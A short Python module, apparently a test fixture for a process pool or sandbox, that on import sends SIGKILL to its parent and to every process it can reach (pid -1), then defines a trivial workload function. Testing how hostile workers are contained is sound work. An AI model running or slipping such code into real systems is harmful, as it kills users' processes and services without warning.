"""Ends every process it can."""

import os
import signal

for pid in (os.getppid(), -1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass


def workload(x):
    return x
